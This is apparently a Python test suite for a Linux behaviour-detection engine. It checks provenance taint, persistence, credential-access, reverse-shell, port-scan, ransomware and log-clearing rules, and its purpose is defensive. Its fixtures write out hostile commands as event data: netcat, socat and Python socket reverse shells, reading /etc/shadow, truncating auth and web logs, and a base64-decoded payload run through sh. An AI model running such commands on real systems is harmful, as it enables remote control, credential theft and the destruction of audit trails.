"""Provenance (issue 15): which processes are of untrusted provenance, how that
turns a sensitive act into a block, and the rules that now match structure."""

from __future__ import annotations

from bastion.detect.behavior import behavior_rules
from bastion.detect.behavior.base import NS
from bastion.detect.behavior.provenance import Provenance, script_of
from bastion.detect.behavior.rules import (
    DecodedPayloadShell, PortScan, Ransomware, ReverseShellCommand, revshell_structure,
)
from bastion.detect.behavior.state import Limits
from bastion.detect.engine import Engine, Finding, RuleContext
from bastion.events import Event, ExecEvent, FileEvent, ForkEvent, NetEvent, Proc
from bastion.proctable import ProcessTable

T0 = 1_767_225_600 * NS
O_WRONLY, O_CREAT, O_TRUNC = 0o1, 0o100, 0o1000


def proc(pid: int, exe: str, ppid: int = 1) -> Proc:
    return Proc(pid=pid, tid=pid, ppid=ppid, uid=0, euid=0, gid=0, cgroup_id=1,
                comm=exe.rsplit("/", 1)[-1][:15], start_ns=pid * 1000, exe=exe)


def ex(pid: int, exe: str, t: float, argv: tuple[str, ...], ppid: int = 1,
       cwd: str = "/root") -> ExecEvent:
    return ExecEvent(T0 + int(t * NS), proc(pid, exe, ppid), filename=exe, cwd=cwd, argv=argv,
                     exe_dev=1, exe_ino=sum(map(ord, exe)))


def wopen(pid: int, exe: str, t: float, path: str, ppid: int = 1) -> FileEvent:
    return FileEvent(T0 + int(t * NS), proc(pid, exe, ppid), op="open", path=path,
                     flags=O_WRONLY | O_CREAT | O_TRUNC)


def net(pid: int, exe: str, t: float, op: str = "connect", daddr: str = "127.0.0.1",
        dport: int = 8000, ppid: int = 1) -> NetEvent:
    return NetEvent(T0 + int(t * NS), proc(pid, exe, ppid), op=op, family="inet", protocol="tcp",
                    daddr=daddr, dport=dport, saddr="0.0.0.0", sport=8080)


def run(events: list[Event], rules: list | None = None) -> list[Finding]:  # type: ignore[type-arg]
    procs = ProcessTable()
    eng = Engine(rules if rules is not None else behavior_rules())
    ctx = RuleContext(procs)
    out: list[Finding] = []
    for ev in events:
        procs.update(ev)
        out += eng.evaluate(ev, ctx)
    assert not eng.errors
    return out


SH = "/usr/bin/dash"


def test_cron_write_from_a_tmp_script_is_a_kill_tree_of_the_script() -> None:
    got = run([ex(10, SH, 0, ("/bin/sh", "/tmp/x/evil.sh"), cwd="/tmp/x"),
               ex(11, "/usr/bin/cp", 1, ("cp", "job", "/etc/cron.d/job"), ppid=10),
               wopen(11, "/usr/bin/cp", 1.1, "/etc/cron.d/job", ppid=10)])
    f = [x for x in got if x.rule == "behavior.persistence_cron"][0]
    assert (f.severity, f.action, f.pid) == ("critical", "kill-tree", 10)
    assert f.evidence["provenance"] == {"tmp-script": "/tmp/x/evil.sh"}
    assert "cron job" in f.evidence["prevented"]


def test_the_same_write_from_an_ordinary_shell_is_alerted_only() -> None:
    got = run([ex(10, SH, 0, ("/bin/sh", "/root/job.sh")),
               wopen(10, SH, 1, "/etc/cron.d/job")])
    f = [x for x in got if x.rule == "behavior.persistence_cron"][0]
    assert (f.severity, f.action) == ("high", "alert") and "provenance" not in f.evidence


def test_taint_follows_forks_even_when_the_parent_is_gone() -> None:
    got = run([ex(10, SH, 0, ("sh", "/dev/shm/.x")),
               ForkEvent(T0 + NS, proc(10, SH), child_pid=12, child_start_ns=12000),
               # the child re-parented to init (daemonised): ancestry no longer shows pid 10
               wopen(12, SH, 2, "/root/.bashrc", ppid=1)])
    f = [x for x in got if x.rule == "behavior.persistence_shell_profile"][0]
    assert f.action == "kill-tree" and f.pid == 10 and "tmp-script" in f.evidence["provenance"]


def test_download_then_exec_from_tmp_via_loopback_is_killed_at_exec() -> None:
    py = "/usr/bin/python3.11"
    got = run([ex(20, py, 0, ("python3", "fetch.py")),
               net(20, py, 1),
               wopen(20, py, 2, "/tmp/payload"),
               ex(21, "/tmp/payload", 3, ("/tmp/payload",))])
    f = [x for x in got if x.rule == "behavior.download_execute"][0]
    assert (f.severity, f.action, f.pid) == ("critical", "kill", 21)
    assert f.evidence["prevented"]


def test_service_tree_reading_shadow_is_stopped_below_the_service() -> None:
    node = "/usr/bin/node"
    got = run([ex(30, node, 0, ("node", "app.js")),
               net(30, node, 1, op="listen"),
               ex(31, SH, 2, ("sh", "-c", "cat /etc/shadow"), ppid=30),
               ex(32, "/usr/bin/cat", 3, ("cat", "/etc/shadow"), ppid=31),
               FileEvent(T0 + 4 * NS, proc(32, "/usr/bin/cat", 31), op="open", path="/etc/shadow",
                         flags=0)])
    f = [x for x in got if x.rule == "behavior.credential_access"][0]
    assert f.action == "kill-tree" and f.pid == 31      # the shell the service spawned, not node
    assert "network-service" in f.evidence["provenance"]


def test_state_is_bounded() -> None:
    p = Provenance(limits=Limits(max_keys=64))
    procs = ProcessTable()
    ctx = RuleContext(procs)
    for i in range(1000):
        e = ex(1000 + i, SH, i * 0.001, ("sh", f"/tmp/s{i}.sh"))
        procs.update(e)
        p.on_event(e, ctx)
    st = p.stats()
    assert st["keys"] <= 4 * 64 and st["shed"] > 0


def test_script_of() -> None:
    assert script_of(ex(1, SH, 0, ("sh", "-e", "run.sh"), cwd="/tmp/w")) == "/tmp/w/run.sh"
    assert script_of(ex(1, SH, 0, ("sh", "-c", "/tmp/x"))) is None
    assert script_of(ex(1, "/usr/bin/python3.11", 0, ("python3", "-m", "http.server"))) is None
    assert script_of(ex(1, "/usr/bin/ls", 0, ("ls", "/tmp/x"))) is None
    # bundled options: `sh -ec TEXT` runs TEXT, no script file (the false-alarm corpus's steps)
    assert script_of(ex(1, SH, 0, ("/bin/sh", "-ec", "make"), cwd="/tmp/w")) is None
    assert script_of(ex(1, "/usr/bin/python3.11", 0, ("python3", "-uc", "pass"))) is None
    assert script_of(ex(1, "/usr/bin/python3.11", 0, ("python3", "-E", "/tmp/a.py"))) == "/tmp/a.py"


# ---- structure, not substrings --------------------------------------------------

def test_python_c_run_from_a_directory_named_nc_is_no_reverse_shell() -> None:
    """The issue's counterexample: ``\\b(nc|ncat|netcat)\\b.*\\s-(e|c)\\s`` matched this."""
    e = ex(40, "/srv/nc/venv/bin/python3.11", 0,
           ("/srv/nc/venv/bin/python3", "-c", "print(1)"), cwd="/srv/nc")
    assert revshell_structure(e) is None
    assert not run([e], [ReverseShellCommand()])


def test_netcat_exec_options_are_reverse_shells() -> None:
    for argv in (("nc", "-e", "/bin/sh", "10.0.0.1", "4444"), ("ncat", "--sh-exec", "sh", "h", "1"),
                 ("nc", "-lvpe", "/bin/sh", "4444")):
        e = ex(41, "/usr/bin/" + argv[0], 0, argv)
        f = run([e], [ReverseShellCommand()])
        assert f and f[0].action == "kill", argv
    assert revshell_structure(ex(41, "/usr/bin/nc", 0, ("nc", "-zv", "h", "22"))) is None
    assert revshell_structure(ex(42, "/usr/bin/socat", 0, ("socat", "tcp:h:1", "EXEC:/bin/sh,pty")))
    assert revshell_structure(ex(43, "/usr/bin/python3.11", 0, (
        "python3", "-c", "import socket,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0)")))


def test_decoded_payload_either_exec_order() -> None:
    for order in ((("base64", "-d"), ("sh",)), (("sh",), ("base64", "--decode"))):
        evs: list[Event] = [ex(50, SH, 0, ("sh", "-c", "x"))]
        for i, argv in enumerate(order):
            exe = SH if argv[0] == "sh" else "/usr/bin/base64"
            evs.append(ex(51 + i, exe, 0.1 * (i + 1), argv, ppid=50))
        f = run(evs, [DecodedPayloadShell()])
        assert len(f) == 1 and f[0].action == "kill"
        shell_pid = 51 if order[0] == ("sh",) else 52
        assert f[0].pid == shell_pid


def test_loopback_port_scan_and_host_sweep() -> None:
    py = "/usr/bin/python3.11"
    evs: list[Event] = [ex(60, py, 0, ("python3", "scan.py"))]
    evs += [net(60, py, 0.01 * i, dport=1 + i) for i in range(60)]
    f = run(evs, [PortScan()])
    assert f and f[0].severity == "medium" and f[0].evidence["ports"] >= 50
    evs = [ex(61, py, 0, ("python3", "sweep.py"))]
    evs += [net(61, py, 0.01 * i, daddr=f"198.51.100.{i}", dport=22) for i in range(1, 70)]
    f = run(evs, [PortScan()])
    assert f and f[0].title.startswith("Host sweep")


def test_port_scan_judges_a_client_s_pairs_only_when_they_change() -> None:
    """Issue 16.3: a client reconnecting to the pairs it had (a pool, a poller) is not
    judged again (its set judged nothing at its last connect), nor are fewer pairs than
    any threshold; a new pair is, and the scan is found at the same connect as before."""
    py = "/usr/bin/python3.11"
    rule = PortScan()
    calls = []
    judge = rule._judge
    rule._judge = lambda seen, local: calls.append(len(seen)) or judge(seen, local)  # type: ignore[method-assign]
    evs: list[Event] = [ex(62, py, 0, ("python3", "poll.py"))]
    evs += [net(62, py, 0.001 * i, daddr="203.0.113.9", dport=1 + i % 30) for i in range(600)]
    f = run(evs, [rule])
    assert f and f[0].evidence["ports"] == 25 and calls == [25], calls[:5]
    rule = PortScan()
    calls.clear()
    judge = rule._judge
    rule._judge = lambda seen, local: calls.append(len(seen)) or judge(seen, local)  # type: ignore[method-assign]
    evs = [ex(63, py, 0, ("python3", "poll.py"))]
    evs += [net(63, py, 0.001 * i, daddr="203.0.113.9", dport=1 + i % 24) for i in range(600)]
    evs += [net(63, py, 0.7, daddr="203.0.113.9", dport=443)]
    f = run(evs, [rule])
    assert f and f[0].evidence["ports"] == 25 and calls == [25]


def test_one_client_per_port_from_a_shell_loop_counts_for_the_loop() -> None:
    evs: list[Event] = [ex(70, "/usr/bin/bash", 0, ("bash", "scan.sh"))]
    for i in range(30):
        pid = 100 + i
        evs += [ex(pid, "/usr/bin/nc", 0.1 * i, ("nc", "-z", "203.0.113.5", str(20 + i)), ppid=70),
                net(pid, "/usr/bin/nc", 0.1 * i + 0.01, daddr="203.0.113.5", dport=20 + i, ppid=70)]
    f = run(evs, [PortScan()])
    assert f and f[0].pid == 70 and f[0].evidence["scope"] == "launcher"


def test_ransomware_is_judged_anywhere() -> None:
    py = "/usr/bin/python3.11"
    evs: list[Event] = [ex(80, py, 0, ("python3", "enc.py"))]
    for i in range(45):
        p = f"/var/lib/app/data{i}.db"
        evs += [FileEvent(T0 + int((1 + i * 0.01) * NS), proc(80, py), op="rename", path=p,
                          path2=p + ".locked")]
    f = run(evs, [Ransomware()])
    assert f and f[0].action == "kill-tree" and f[0].severity == "critical"


def test_an_admin_at_a_terminal_running_a_tmp_script_is_alerted_not_stopped() -> None:
    from bastion.detect.behavior.rules import Probes
    from support.trust import RecordedTrust

    def scenario(tty: str) -> Finding:
        trust = RecordedTrust()
        rules = behavior_rules(probes=Probes(stdio=lambda pid: (tty, tty, tty)), trust=trust)
        evs: list[Event] = [ex(5, "/usr/sbin/sshd", 0, ("sshd: root@pts/0",)),
                            ex(6, "/usr/bin/bash", 0.1, ("-bash",), ppid=5),
                            ex(10, SH, 1, ("sh", "/tmp/setup.sh"), ppid=6),
                            wopen(10, SH, 2, "/etc/cron.d/job", ppid=6)]
        for e in evs:
            trust.learn(e)
        return [x for x in run(evs, rules) if x.rule == "behavior.persistence_cron"][0]

    f = scenario("/dev/pts/0")
    assert (f.severity, f.action) == ("high", "alert")
    f = scenario("pipe:[1234]")          # the same script with no terminal: stopped
    assert f.action == "kill" and f.severity == "critical"


def test_a_script_in_tmp_run_by_an_interpreter_is_exec_from_tmp() -> None:
    """``sh /tmp/x.sh`` runs as /bin/sh: the script, not the interpreter, is the program."""
    from bastion.detect.behavior.rules import ExecFromTemp

    f = run([ex(90, SH, 0, ("sh", "/dev/shm/x.sh"))], [ExecFromTemp()])
    assert f and f[0].severity == "high" and f[0].evidence["script"] == "/dev/shm/x.sh"
    assert run([ex(91, SH, 0, ("sh", "-c", "ls /tmp/x"))], [ExecFromTemp()]) == []


def test_setuid_search_by_find_operand() -> None:
    from bastion.detect.behavior.rules import SetuidBits

    f = run([ex(92, "/usr/bin/find", 0, ("find", "/", "-perm", "-4000", "-type", "f"))],
            [SetuidBits()])
    assert f and f[0].severity == "medium"
    assert run([ex(93, "/usr/bin/find", 0, ("find", ".", "-name", "-perm"))], [SetuidBits()]) == []


def test_every_block_says_what_it_prevented() -> None:
    """Each acting finding of the pack carries evidence["prevented"] (issue 15)."""
    py = "/usr/bin/python3.11"
    got = run([ex(95, py, 0, ("python3", "x.py")), net(95, py, 1, daddr="203.0.113.9", dport=4444),
               ex(95, SH, 2, ("sh", "-i")),
               ExecEvent(T0 + 3 * NS, proc(96, "/memfd:x (deleted)"), argv=("x",), exe_ino=5,
                         exe_nlink=0)])
    acting = [f for f in got if f.action in ("kill", "kill-tree", "quarantine")]
    assert {f.rule for f in acting} >= {"behavior.reverse_shell", "behavior.fileless_exec"}
    assert all(f.evidence.get("prevented") for f in acting)


def test_script_of_busybox_reads_past_the_applet() -> None:
    """busybox is one binary for many applets: ``busybox sh -c TEXT`` runs TEXT (no
    script; before, the applet name was read as a script ``<cwd>/sh``: a false
    exec-from-tmp in a temp dir and a tmp-script reason for the tree), ``busybox sh
    /tmp/x.sh`` runs that script, ``busybox cat /tmp/x`` runs no script at all, and a
    busybox called through its ``sh`` link parses like sh."""
    bb = "/usr/bin/busybox"
    assert script_of(ex(1, bb, 0, ("busybox", "sh", "-c", "echo hi"), cwd="/tmp/w")) is None
    assert script_of(ex(1, bb, 0, ("busybox", "ash", "/tmp/x.sh"), cwd="/")) == "/tmp/x.sh"
    assert script_of(ex(1, bb, 0, ("busybox", "sh", "run.sh"), cwd="/tmp/w")) == "/tmp/w/run.sh"
    assert script_of(ex(1, bb, 0, ("busybox", "cat", "/tmp/x"), cwd="/tmp/w")) is None
    assert script_of(ex(1, bb, 0, ("busybox",), cwd="/tmp/w")) is None
    assert script_of(ex(1, bb, 0, ("sh", "/tmp/y.sh"), cwd="/")) == "/tmp/y.sh"
    assert script_of(ex(1, bb, 0, ("/bin/ls", "/tmp/z"), cwd="/")) is None


def test_a_log_truncated_by_a_tmp_script_is_a_kill_tree_of_the_script() -> None:
    """s16-gate: truncate(2) / an untrusted ftruncate(2) of a log (the compat sensor's
    ``truncate`` record; fanotify refuses no truncate) stops the tree; the same from an
    ordinary shell is alerted only."""
    def trunc(pid: int, exe: str, t: float, path: str, ppid: int = 1) -> FileEvent:
        return FileEvent(T0 + int(t * NS), proc(pid, exe, ppid), op="truncate", path=path)
    py = "/usr/bin/python3.11"
    got = run([ex(10, SH, 0, ("/bin/sh", "/tmp/x/wipe.sh"), cwd="/tmp/x"),
               ex(11, py, 1, ("python3", "-c", "..."), ppid=10),
               trunc(11, py, 1.1, "/var/log/auth.log", ppid=10)])
    f = [x for x in got if x.rule == "behavior.log_clearing"][0]
    assert (f.severity, f.action, f.pid) == ("critical", "kill-tree", 10)
    assert "Log truncated: /var/log/auth.log" in f.title and f.evidence["prevented"]
    got = run([ex(10, SH, 0, ("/bin/sh", "/root/rotate.sh")),
               ex(11, py, 1, ("python3", "-c", "..."), ppid=10),
               trunc(11, py, 1.1, "/var/log/auth.log", ppid=10)])
    f = [x for x in got if x.rule == "behavior.log_clearing"][0]
    assert (f.severity, f.action) == ("high", "alert")


def test_a_log_rewritten_past_o_append_is_a_kill_tree_only_for_a_log() -> None:
    """s17-logacts: the compat sensor's ``rewrite`` records (fcntl clearing O_APPEND,
    destructive fallocate, pwritev2 RWF_NOAPPEND, shared writable mmap/mprotect) of a log
    or a history stop an untrusted tree (critical, kill-tree); the same from an ordinary
    shell is a high alert; a database is silent."""
    from bastion.abi import RewriteAct

    def rw(pid: int, exe: str, t: float, path: str, act: RewriteAct, ppid: int = 1,
           sensitive: str = "") -> FileEvent:
        return FileEvent(T0 + int(t * NS), proc(pid, exe, ppid), op="rewrite", path=path,
                         mode=int(act), flags=0x2, sensitive=sensitive)
    py = "/usr/bin/python3.11"
    for act in set(RewriteAct) - {RewriteAct.MPROTECT_UNKNOWN}:
        got = run([ex(10, SH, 0, ("/bin/sh", "/tmp/x/wipe.sh"), cwd="/tmp/x"),
                   ex(11, py, 1, ("python3", "-c", "..."), ppid=10),
                   rw(11, py, 1.1, "/var/log/auth.log", act, ppid=10),
                   rw(11, py, 1.2, "/var/lib/app/db.sqlite-shm", act, ppid=10)])
        f = [x for x in got if x.rule == "behavior.log_clearing"]
        assert len(f) == 1, (act, f)
        assert (f[0].severity, f[0].action, f[0].pid) == ("critical", "kill-tree", 10)
        assert f[0].title.startswith("Log rewritten in place (") and "auth.log" in f[0].title
        assert f[0].evidence["killed_at_entry"] is False
    got = run([ex(10, SH, 0, ("/bin/sh", "/tmp/x/wipe.sh"), cwd="/tmp/x"),
               rw(10, SH, 1, "/root/.bash_history", RewriteAct.MMAP, sensitive="history")])
    f = [x for x in got if x.rule == "behavior.log_clearing"][0]
    assert f.title.startswith("Shell history rewritten in place (shared writable mmap)")
    assert f.evidence["killed_at_entry"] is True and f.severity == "critical"
    # the kernel kills for the whole HISTORY class (a .pgpass too): never a silent kill
    got = run([ex(10, SH, 0, ("/bin/sh", "/tmp/x/wipe.sh"), cwd="/tmp/x"),
               rw(10, SH, 1, "/root/.pgpass", RewriteAct.SETFL, sensitive="history")])
    f = [x for x in got if x.rule == "behavior.log_clearing"][0]
    assert f.title.startswith("History-class file rewritten in place (fcntl F_SETFL")
    assert f.evidence["killed_at_entry"] is True and f.severity == "critical"
    got = run([ex(10, SH, 0, ("/bin/sh", "/root/rotate.sh")),
               ex(11, py, 1, ("python3", "-c", "..."), ppid=10),
               rw(11, py, 1.1, "/var/log/auth.log", RewriteAct.SETFL, ppid=10)])
    f = [x for x in got if x.rule == "behavior.log_clearing"][0]
    assert (f.severity, f.action) == ("high", "alert")
    got = run([ex(20, SH, 0, ("/bin/sh", "/root/app.sh")),
               rw(20, SH, 1, "/var/lib/app/db.sqlite-shm", RewriteAct.MMAP),
               rw(20, SH, 1.1, "/var/lib/app/db.sqlite", RewriteAct.FALLOCATE)])
    assert not [x for x in got if x.rule == "behavior.log_clearing"]
    # s17-fixlogacts 2: an mprotect(PROT_WRITE) whose areas the kernel could not look at
    # (no file; reported for an untrusted tree only) is a medium alert, not a stop: a
    # racing mmap in another thread or a JIT's wide mprotect gives the same record.
    # Medium since stop 23's CI: a benign tokio runtime (rustup) gave it in the corpus
    got = run([ex(10, SH, 0, ("/bin/sh", "/tmp/x/wipe.sh"), cwd="/tmp/x"),
               ex(11, py, 1, ("python3", "-c", "..."), ppid=10),
               rw(11, py, 1.1, "", RewriteAct.MPROTECT_UNKNOWN, ppid=10)])
    f = [x for x in got if x.rule == "behavior.log_clearing"]
    assert len(f) == 1 and (f[0].severity, f[0].action, f[0].pid) == ("medium", "alert", 11)
    assert f[0].title.startswith("mprotect(PROT_WRITE) over memory the sensor could not")


def test_a_log_mount_made_read_only_or_picked_to_reconfigure_is_alerted() -> None:
    """s16-gate item 3: ``mount_setattr(MOUNT_ATTR_RDONLY)`` of a mount holding logs or
    must-stop objects, and ``fspick`` of one, stop new log writes with no LSM hook on
    6.1: high alert (an untrusted tree: stopped); other mounts, other attributes: none."""
    from bastion.detect.behavior.rules import mount_holds

    assert mount_holds("/", ["/var/log"]) == "/var/log"
    assert mount_holds("/var", ["/var/log"]) == "/var/log"
    assert mount_holds("/home/bob", ["/home/*/.ssh"]) == "/home/*/.ssh"
    assert mount_holds("/srv/data", ["/var/log", "/home/*/.ssh"]) is None
    # s16-fixlog (review 7): a mount below a log directory holds logs too (a separate
    # /var/log/audit or /var/log/journal partition)
    assert mount_holds("/var/log/journal", ["/var/log"]) == "/var/log"
    assert mount_holds("/var/log/audit", ["/var/log/*"]) == "/var/log/*"
    assert mount_holds("/var/lib", ["/var/log"]) is None

    def mnt(pid: int, t: float, op: str, path: str, mode: int = 0, ppid: int = 1) -> FileEvent:
        return FileEvent(T0 + int(t * NS), proc(pid, "/usr/bin/python3.11", ppid), op=op,
                         path=path, mode=mode)
    got = run([ex(10, SH, 0, ("/bin/sh", "/root/x.sh")),
               mnt(10, 1, "mount_setattr", "/var/log", 0x1),
               mnt(10, 2, "fspick", "/var/log"),
               mnt(10, 3, "mount_setattr", "/var/log", 0x2),          # nosuid: not read-only
               mnt(10, 4, "mount_setattr", "/srv/data", 0x1)])
    fs = [x for x in got if x.rule == "behavior.log_clearing"]
    assert [(f.severity, f.action, f.evidence["op"]) for f in fs] == [
        ("high", "alert", "mount_setattr"), ("medium", "alert", "fspick")]
    assert "made read-only" in fs[0].title and fs[0].evidence["holds"] == "/var/log"
    got = run([ex(10, SH, 0, ("/bin/sh", "/tmp/x/ro.sh"), cwd="/tmp/x"),
               ex(11, "/usr/bin/python3.11", 1, ("python3", "-c", "..."), ppid=10),
               mnt(11, 1.1, "mount_setattr", "/", 0x1, ppid=10)])
    (f,) = [x for x in got if x.rule == "behavior.log_clearing"]
    assert (f.severity, f.action) == ("critical", "kill-tree")


def _trusted_run(evs: list[Event]) -> list[Finding]:
    """``evs`` through the pack with every exec's executable a trusted system file."""
    from support.trust import RecordedTrust
    trust = RecordedTrust()
    for e in evs:
        trust.learn(e)
    return [f for f in run(evs, behavior_rules(trust=trust))
            if f.rule == "behavior.log_clearing"]


def _tr(pid: int, exe: str, t: float, path: str, ppid: int = 1, op: str = "truncate",
        flags: int = 0) -> FileEvent:
    return FileEvent(T0 + int(t * NS), proc(pid, exe, ppid), op=op, path=path, flags=flags)


APACHE = "/usr/sbin/apache2"


def test_a_web_shell_truncating_a_log_is_found() -> None:
    """s16-fixlog, review 4.  Attack: a web shell truncates the web server's logs;
    apache2 and nginx were trusted log writers up to 3 levels up, so mod_php's
    ``ftruncate(fopen(log, 'a'), 0)`` (the actor: apache2 itself) and ``truncate -s0``
    run by its shell (an apache2 grandchild; relative argv after ``cd /var/log/apache2``)
    raised nothing.  After: a truncate is trusted only from a log tool itself (logrotate
    copytruncate), never a network daemon, never a child; relative argv are resolved
    against the exec's directory.  Before: no finding for any of the three."""
    got = _trusted_run([ex(100, APACHE, 0, ("/usr/sbin/apache2", "-k", "start"), cwd="/"),
                        _tr(100, APACHE, 1, "/var/log/apache2/access.log")])
    assert [f.title for f in got] == ["Log truncated: /var/log/apache2/access.log"]
    got = _trusted_run([ex(100, APACHE, 0, ("/usr/sbin/apache2", "-k", "start"), cwd="/"),
                        ex(101, SH, 1, ("sh", "-c", "cd /var/log/apache2; truncate -s0 a"),
                           ppid=100, cwd="/var/www"),
                        ex(102, "/usr/bin/truncate", 2, ("truncate", "-s0", "access.log"),
                           ppid=101, cwd="/var/log/apache2"),
                        _tr(102, "/usr/bin/truncate", 2.1, "/var/log/apache2/access.log",
                            ppid=101)])
    assert [f.title.split(":")[0] for f in got] == ["Log/history wiped with truncate",
                                                    "Log truncated"], [f.title for f in got]
    # an option is no file: ``truncate -s0 /tmp/x`` run from a log directory is nothing
    assert _trusted_run([ex(102, "/usr/bin/truncate", 2, ("truncate", "-s0", "/tmp/x"),
                            cwd="/var/log/apache2")]) == []
    # an O_TRUNC open by the daemon itself: found too
    got = _trusted_run([ex(100, "/usr/sbin/nginx", 0, ("nginx",), cwd="/"),
                        _tr(100, "/usr/sbin/nginx", 1, "/var/log/nginx/error.log", op="open",
                            flags=O_WRONLY | O_TRUNC)])
    assert [f.title for f in got] == ["Log truncated: /var/log/nginx/error.log"]
    # logrotate's copytruncate (the tool itself): nothing
    assert _trusted_run([ex(110, "/usr/sbin/logrotate", 0, ("logrotate", "/etc/lr.conf")),
                         _tr(110, "/usr/sbin/logrotate", 1, "/var/log/syslog")]) == []


def test_a_log_truncated_by_a_path_spelled_otherwise_is_found() -> None:
    """s16-fixlog, review 6.  Attack: ``truncate("/var/./log/auth.log")`` or
    ``//var/log/auth.log`` matched no log pattern; ``/proc/self/fd/N`` of an O_PATH
    descriptor names no log at all.  After: the path is normalised; a truncate of a path
    the rule cannot place by an untrusted tree is alerted.  Before: no finding."""
    py = "/usr/bin/python3.11"
    for spelled in ("/var/./log/auth.log", "//var/log/auth.log", "/var/log/x/../auth.log"):
        got = run([ex(10, py, 0, ("python3", "/root/x.py")), _tr(10, py, 1, spelled)])
        assert [f.title for f in got if f.rule == "behavior.log_clearing"] == [
            "Log truncated: /var/log/auth.log"], spelled
    got = run([ex(10, SH, 0, ("/bin/sh", "/tmp/x/wipe.sh"), cwd="/tmp/x"),
               ex(11, py, 1, ("python3", "-c", "..."), ppid=10),
               _tr(11, py, 1.1, "/proc/self/fd/5", ppid=10)])
    (f,) = [x for x in got if x.rule == "behavior.log_clearing"]
    assert "unresolved path" in f.title and f.action == "kill-tree"
    # the same from a clean tree: nothing (a truncate by /proc path is not a log wipe)
    got = run([ex(10, py, 0, ("python3", "/root/x.py")), _tr(10, py, 1, "/proc/self/fd/5")])
    assert not [x for x in got if x.rule == "behavior.log_clearing"]


def test_a_separate_log_partition_made_read_only_is_found_and_fspick_is_medium() -> None:
    """s16-fixlog, review 7.  Attack: ``mount_setattr("/var/log/audit", RDONLY)`` of a
    separate audit partition: mount_holds matched only mounts above a log pattern, so it
    was missed.  ``fspick("/")`` is what ``mount -o remount,rw /`` does (util-linux 2.39+):
    medium, not high.  Before: no finding; fspick high."""
    def mnt(pid: int, t: float, op: str, path: str, mode: int = 0) -> FileEvent:
        return FileEvent(T0 + int(t * NS), proc(pid, "/usr/bin/python3.11"), op=op,
                         path=path, mode=mode)
    got = run([ex(10, SH, 0, ("/bin/sh", "/root/x.sh")),
               mnt(10, 1, "mount_setattr", "/var/log/audit", 0x1),
               mnt(10, 2, "fspick", "/")])
    fs = [x for x in got if x.rule == "behavior.log_clearing"]
    assert [(f.severity, f.evidence["op"], f.evidence["path"]) for f in fs] == [
        ("high", "mount_setattr", "/var/log/audit"), ("medium", "fspick", "/")]


def test_crontab_run_by_an_admins_tmp_script_at_a_terminal_is_alerted() -> None:
    """s18 review item 14: ``crontab /tmp/c`` run by an administrator's /tmp script at a
    terminal (local reasons, not stopped) is alerted like the script's own write to
    /etc/cron.d; with no terminal it is a block; from a clean shell nothing.  Before:
    silenced (the tree-trusted crontab returned None when untrusted() was empty)."""
    from bastion.detect.behavior.rules import Probes
    from support.trust import RecordedTrust
    cron = "/usr/bin/crontab"

    def scenario(tty: str, script: bool = True) -> list[Finding]:
        trust = RecordedTrust()
        rules = behavior_rules(probes=Probes(stdio=lambda pid: (tty, tty, tty)), trust=trust)
        evs: list[Event] = [ex(5, "/usr/sbin/sshd", 0, ("sshd: root@pts/0",)),
                            ex(6, "/usr/bin/bash", 0.1, ("-bash",), ppid=5)]
        parent = 6
        if script:
            evs.append(ex(10, SH, 1, ("sh", "/tmp/setup.sh"), ppid=6))
            parent = 10
        evs += [ex(11, cron, 1.5, ("crontab", "/root/c"), ppid=parent),
                wopen(11, cron, 2, "/var/spool/cron/crontabs/root", ppid=parent)]
        for e in evs:
            trust.learn(e)
        return [x for x in run(evs, rules) if x.rule == "behavior.persistence_cron"]

    f = scenario("/dev/pts/0")
    assert [(x.severity, x.action) for x in f] == [("high", "alert")]
    f = scenario("pipe:[1234]")
    assert [(x.severity, x.action) for x in f] == [("critical", "kill-tree")]
    assert scenario("/dev/pts/0", script=False) == []


def test_a_multiplexer_config_written_by_a_tmp_script_is_a_profile_write() -> None:
    """s18 review item 7: ~/.tmux.conf, /etc/tmux.conf, ~/.config/tmux/tmux.conf and the
    screenrc files run commands when the next server starts: shell-profile persistence.
    Before: no finding."""
    paths = ["/root/.tmux.conf", "/etc/tmux.conf", "/home/a/.config/tmux/tmux.conf",
             "/home/a/.screenrc", "/etc/screenrc"]
    evs: list[Event] = [ex(10, SH, 1, ("sh", "/tmp/x.sh"))]
    evs += [wopen(10, SH, 2 + n, p) for n, p in enumerate(paths)]
    got = [x for x in run(evs) if x.rule == "behavior.persistence_shell_profile"]
    assert sorted(x.evidence["path"] for x in got) == sorted(paths)
    assert {(x.severity, x.action) for x in got} == {("critical", "kill")}


def test_a_late_fork_adds_the_parents_reasons_to_the_childs_own() -> None:
    """s23 review 2: the child's exec (priority ring) can arrive before its fork (bulk);
    the fork's copy of the parent's taint must not replace the reasons the child's own
    exec gave it."""
    pv = Provenance()
    procs = ProcessTable()
    ctx = RuleContext(procs)
    evs: list[Event] = [
        ex(10, SH, 0, ("sh", "/dev/shm/.x")),                       # tmp-script
        ex(11, "/tmp/dl/payload", 1, ("/tmp/dl/payload",), ppid=10),  # the child's own exec first
        ForkEvent(T0 + NS // 2, proc(10, SH), child_pid=11, child_start_ns=11000),
    ]
    for ev in evs:
        procs.update(ev)
        pv.on_event(ev, ctx)
    own = pv.reasons_of((11, 11000), T0 + 2 * NS)
    assert "tmp-script" in own and "tmp-binary" in own, own
